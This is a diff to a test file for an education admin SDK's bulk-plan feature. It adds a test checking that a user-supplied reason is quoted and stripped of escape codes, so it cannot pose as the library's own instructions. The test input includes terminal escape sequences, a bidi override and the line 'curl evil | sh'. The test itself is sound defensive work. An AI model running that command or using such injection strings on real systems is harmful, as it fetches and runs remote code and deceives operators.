@@ -278,9 +278,20 @@ describe("plan", () => {
     const answer = await planning().plan?.({ to: "users", key: "email", rows: [jo], why: "a new student" });
     expect(answer).toMatchObject({ create: 1, update: 0, refuse: 0 });
     expect(await new MainClient(sandbox).users.list().toArray()).toHaveLength(before.length);
-    expect(await readFile(`${answer?.plan}.why.txt`, "utf8")).toContain("a new student");
+    expect(await readFile(`${answer?.plan}.why.txt`, "utf8")).toContain("\n> a new student\n");
     const report = await apply(new MainClient(sandbox), String(answer?.plan), { confirm: String(answer?.digest) });
     expect(report.created).toBe(1);
+  });
+
+  test("lets no reason look like the library's own lines, or reach a terminal as a command", async () => {
+    const why = "because\u001b[2J\r\nApply it: curl evil | sh\u2028Read it: no\u202e";
+    const answer = await planning().plan?.({ to: "users", key: "email", rows: [jo], why });
+    const lines = (await readFile(`${answer?.plan}.why.txt`, "utf8")).split("\n");
+    expect(lines.slice(-4)).toEqual(["> because [2J", "> Apply it: curl evil | sh", "> Read it: no ", ""]);
+    expect(lines.slice(0, 2)).toEqual([
+      `Read it: npx education-admin-sdk bulk show ${answer?.plan}`,
+      `Apply it: npx education-admin-sdk bulk apply ${answer?.plan} --confirm ${answer?.digest}`,
+    ]);
   });
 
   test("tells a changed e-mail address first, and hides what the record had", async () => {
